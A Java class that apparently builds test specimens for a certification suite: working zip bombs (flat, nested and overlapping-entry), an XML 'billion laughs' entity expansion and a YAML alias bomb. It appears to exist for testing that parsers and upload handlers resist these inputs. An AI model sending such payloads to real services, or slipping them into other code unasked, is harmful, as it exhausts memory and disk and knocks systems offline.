package org.civicstore.certification.specimens;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/** Small files that unpack to very large ones. */
public final class Bombs {

    private static final int MIB = 1024 * 1024;

    private Bombs() {}

    /** One entry of one gibibyte of zeros. */
    public static byte[] flat() {
        return RawZip.of(zeros("bomb", 1024)).bytes();
    }

    /** Five levels of ten containers each, with 64 MiB of zeros at the bottom of every branch: 6 TiB in all. */
    public static byte[] nested() {
        byte[] level = RawZip.of(zeros("zeros", 64)).bytes();
        for (int depth = 0; depth < 5; depth++) {
            RawZip zip = new RawZip();
            for (int i = 0; i < 10; i++) {
                zip.add(RawZip.Entry.deflated("copy" + i + ".zip", level));
            }
            level = zip.bytes();
        }
        return level;
    }

    /**
     * Entries that share one kernel of zeros: each quotes the local header of the next one in a stored block and goes on into
     * it. After D. Fifield, "A better zip bomb", WOOT 2019.
     */
    public static byte[] overlapping(int entries, int mebibytes) {
        RawZip.Entry kernel = zeros("kernel", mebibytes);
        List<byte[]> headers = new ArrayList<>();
        List<RawZip.Entry> listed = new ArrayList<>();
        long size = kernel.size();
        long packed = kernel.packed().length;
        headers.add(RawZip.localHeader(kernel));
        listed.add(kernel);
        for (int i = 1; i < entries; i++) {
            int quoted = headers.getFirst().length;
            size += quoted;
            packed += 5 + quoted;
            RawZip.Entry entry = RawZip.Entry.claiming("e" + i, packed, size);
            headers.addFirst(RawZip.localHeader(entry));
            listed.addFirst(entry);
        }
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        RawZip zip = new RawZip();
        List<Integer> offsets = new ArrayList<>();
        for (int i = 0; i < entries; i++) {
            offsets.add(body.size());
            body.writeBytes(headers.get(i));
            if (i + 1 < entries) {
                body.writeBytes(storedBlock(headers.get(i + 1).length));
            }
        }
        body.writeBytes(kernel.packed());
        zip.prefix(body.toByteArray());
        for (int i = 0; i < entries; i++) {
            zip.list(listed.get(i), offsets.get(i));
        }
        return zip.bytes();
    }

    /** An entity that stands for ten of another, and so on, ten levels deep. */
    public static String entities() {
        StringBuilder text = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"aaaaaaaaaa\">");
        for (int i = 1; i < 12; i++) {
            text.append("<!ENTITY a%d \"%s\">".formatted(i, ("&a" + (i - 1) + ";").repeat(10)));
        }
        return text + "]>";
    }

    /** The same in YAML, by aliases. */
    public static byte[] aliases() {
        StringBuilder text = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++) {
            text.append("a%d: &a%d [%s]\n".formatted(i, i, ("*a" + (i - 1) + ", ").repeat(10)));
        }
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Deflated without ever holding it: a flushed mebibyte of zeros, over and over, is a valid stream. */
    private static RawZip.Entry zeros(String name, int mebibytes) {
        byte[] zeros = new byte[MIB];
        Deflater deflater = new Deflater(9, true);
        byte[] buffer = new byte[MIB];
        deflater.setInput(zeros);
        int length = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
        deflater.end();
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        CRC32 crc = new CRC32();
        for (int i = 0; i < mebibytes; i++) {
            packed.write(buffer, 0, length);
            crc.update(zeros);
        }
        // The last block: fixed codes, empty.
        packed.write(3);
        packed.write(0);
        return RawZip.Entry.packed(name, packed.toByteArray(), (long) mebibytes * MIB, crc.getValue());
    }

    private static byte[] storedBlock(int length) {
        return ByteBuffer.allocate(5)
                .order(ByteOrder.LITTLE_ENDIAN)
                .put((byte) 0)
                .putShort((short) length)
                .putShort((short) ~length)
                .array();
    }
}
